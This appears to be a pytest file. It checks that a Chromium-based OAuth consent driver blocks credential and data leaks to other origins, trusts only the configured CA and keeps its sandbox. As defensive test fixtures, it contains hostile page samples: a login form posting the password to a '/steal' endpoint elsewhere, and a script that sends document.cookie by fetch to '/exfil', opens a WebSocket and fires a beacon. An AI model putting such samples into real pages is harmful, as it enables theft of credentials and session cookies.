"""The `browser` driver under the form driver's rule, against pages written to leak: it trusts
exactly the profile's CA, sends nothing to another scheme, host or port (a login form posting
elsewhere, a redirect elsewhere, a script, a `fetch`, a WebSocket), reads the redirect to the
application from the aborted navigation, keeps Chromium's sandbox unless it runs as root, and
says what it stopped (steps/consent/browser_gate.py, steps/consent/browser.py).

The "elsewhere" is a plain-HTTP listener on 127.0.0.2 that records whatever reaches it."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from steps.consent import make_driver
from steps.consent.base import DriverError, RedirectResult, ServicePage
from steps.consent.browser import NO_SANDBOX, sandbox_allowed
from steps.http.layer import HttpLayer
from steps.profiles.profile import TargetProfile, load_profile
from tests.kit.hostile import Exchange, HostileServer, hostile
from tests.suite.consent_support import authorize_url, driver_profile, driving
from tests.suite.target import Target
from tests.support.browser import required_chromium

pytestmark = pytest.mark.browser
PASSWORD = "the-test-accounts-password"


class Elsewhere(ThreadingHTTPServer):
    """Another origin: records every request that reaches it."""

    def __init__(self) -> None:
        self.received: list[str] = []
        super().__init__(("127.0.0.2", 0), _Recorder)
        self.url = f"http://127.0.0.2:{self.server_address[1]}"


class _Recorder(BaseHTTPRequestHandler):
    def _record(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode(errors="replace") if length else ""
        self.server.received.append(f"{self.command} {self.path} {body}")  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, *args: object) -> None:
        """Quiet."""


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileServer]:
    monkeypatch.setenv("MB_OAUTH_CHROMIUM", required_chromium())
    with hostile(tmp_path) as server:
        yield server


def serve_page(server: HostileServer, path: str, html: str) -> None:
    data = html.encode()

    def run(exchange: Exchange) -> None:
        head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
        exchange.send(f"{head}Content-Length: {len(data)}\r\n\r\n".encode() + data)

    server.behaviours[path] = run


def serve_redirect(server: HostileServer, path: str, location: str) -> None:
    def run(exchange: Exchange) -> None:
        exchange.send(f"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n")

    server.behaviours[path] = run


def profile_of(server: HostileServer, tmp_path: Path) -> TargetProfile:
    clients = {
        "web": "https://client.example/callback",
        "installed": "http://localhost/callback",
        "other_web": "https://other.example/cb",
    }
    lines = [
        'name = "a deployment that leaks"',
        f"base_url = {json.dumps(server.base_url)}",
        f"ca_file = {json.dumps(server.ca_file)}",
        "[user]",
        'username = "alice"',
        f"password = {json.dumps(PASSWORD)}",
    ]
    for role, uri in clients.items():
        lines += [f"[clients.{role}]", f'client_id = "{role}-id"', 'client_secret = "s3cret-value"']
        lines.append(f"redirect_uri = {json.dumps(uri)}")
    lines += ["[consent]", 'driver = "browser"', 'preset = "bundled"']
    path = tmp_path / "leaky.toml"
    path.write_text("\n".join(lines) + "\n")
    return load_profile(path)


def open_with_browser(profile: TargetProfile, path: str) -> tuple[object, HttpLayer]:
    """What `open` gives for a URL of the site (or the error it raised), and the layer."""
    http = HttpLayer(profile.ca_file)
    driver = make_driver(profile, http)
    try:
        try:
            return driver.open(profile.base_url + path), http
        except DriverError as error:
            return error, http
    finally:
        driver.close()


LOGIN_ELSEWHERE = """<html><body><form id="login-form" method="post" action="{action}">
<input name="username"><input type="password" name="password"><button type="submit">Log in</button>
</form></body></html>"""


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_login_form_posting_to_another_host_never_gets_the_password(
    site: HostileServer, elsewhere: Elsewhere, tmp_path: Path, scheme: str
) -> None:
    action = elsewhere.url.replace("http", scheme, 1) + "/steal"
    serve_page(site, "/oauth2/authorize", LOGIN_ELSEWHERE.format(action=action))
    outcome, http = open_with_browser(profile_of(site, tmp_path), "/oauth2/authorize?x=1")
    assert elsewhere.received == []
    assert isinstance(outcome, DriverError) and "the password" in str(outcome)
    assert any("stopped a form (username, password; the password, POST)" in s for s in http.safety)
    assert PASSWORD not in json.dumps(http.evidence())


def test_a_redirect_elsewhere_is_read_from_the_aborted_navigation_and_reported(
    site: HostileServer, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    serve_redirect(site, "/oauth2/authorize", f"{elsewhere.url}/cb?code=the-code&state=s")
    outcome, http = open_with_browser(profile_of(site, tmp_path), "/oauth2/authorize?x=1")
    assert elsewhere.received == []
    assert isinstance(outcome, RedirectResult) and outcome.code == "the-code"
    assert [s for s in http.safety if elsewhere.url in s]


def test_the_redirect_to_the_application_is_captured_and_not_reported(
    site: HostileServer, tmp_path: Path
) -> None:
    serve_redirect(site, "/oauth2/authorize", "https://client.example/callback?code=c0de&state=s")
    outcome, http = open_with_browser(profile_of(site, tmp_path), "/oauth2/authorize?x=1")
    assert isinstance(outcome, RedirectResult) and outcome.code == "c0de"
    assert [s for s in http.safety if s != NO_SANDBOX] == []


def test_a_redirect_to_plain_http_on_the_same_host_and_port_is_not_followed(
    site: HostileServer, tmp_path: Path
) -> None:
    plain = site.base_url.replace("https://", "http://")
    serve_redirect(site, "/oauth2/authorize", f"{plain}/cb?code=c")
    outcome, _ = open_with_browser(profile_of(site, tmp_path), "/oauth2/authorize?x=1")
    assert isinstance(outcome, RedirectResult) and outcome.url == f"{plain}/cb?code=c"
    assert site.requests == ["GET /oauth2/authorize?x=1 HTTP/1.1"]


def test_scripts_fetches_and_sockets_to_another_origin_send_nothing(
    site: HostileServer, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    page = f"""<html><body><p id="done">page</p>
<script src="{elsewhere.url}/tracker.js"></script>
<img src="{elsewhere.url}/pixel.png">
<script>
fetch("{elsewhere.url}/exfil", {{method: "POST", body: "c=" + document.cookie}}).catch(() => 0);
try {{ new WebSocket("{elsewhere.url.replace("http", "ws")}/ws"); }} catch (e) {{}}
navigator.sendBeacon("{elsewhere.url}/beacon", "x");
</script></body></html>"""
    serve_page(site, "/account/authorized", page)
    outcome, http = open_with_browser(profile_of(site, tmp_path), "/account/authorized")
    assert elsewhere.received == []
    assert isinstance(outcome, ServicePage) and outcome.status == 200
    stopped = " | ".join(http.safety)
    assert "a script request (GET)" in stopped and "a WebSocket" in stopped
    assert "a fetch request (POST)" in stopped or "a form (" in stopped


def test_the_browser_trusts_exactly_the_profiles_ca(
    target: Target, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A CA file that did not sign the target: the layer refuses it, and so does the browser
    (before, it logged in anyway: certificate errors were ignored)."""
    from reference_server.tls import ensure_certificates

    monkeypatch.setenv("MB_OAUTH_CHROMIUM", required_chromium())
    (tmp_path / "other-ca").mkdir(mode=0o700)
    other_ca = ensure_certificates(tmp_path / "other-ca", "127.0.0.1").ca
    profile = replace(driver_profile(target, "browser"), ca_file=str(other_ca))
    with driving(profile) as (service, driver):
        url = authorize_url(service, profile, "web", approval_prompt="force")
        with pytest.raises(DriverError, match="CERTIFICATE_VERIFY_FAILED"):
            driver.approve(url)


def test_chromium_keeps_its_sandbox_except_as_root(
    site: HostileServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert sandbox_allowed(1000) and not sandbox_allowed(0)
    profile = profile_of(site, tmp_path)
    serve_page(site, "/p", "<p>a page</p>")
    _, http = open_with_browser(profile, "/p")
    assert (NO_SANDBOX in http.safety) == (os.geteuid() == 0)
    if os.geteuid() == 0:  # forced to keep it, as root Chromium refuses: never dropped silently
        monkeypatch.setattr("steps.consent.browser.sandbox_allowed", lambda: True)
        with pytest.raises(DriverError, match="Chromium did not start"):
            make_driver(profile, HttpLayer(profile.ca_file))
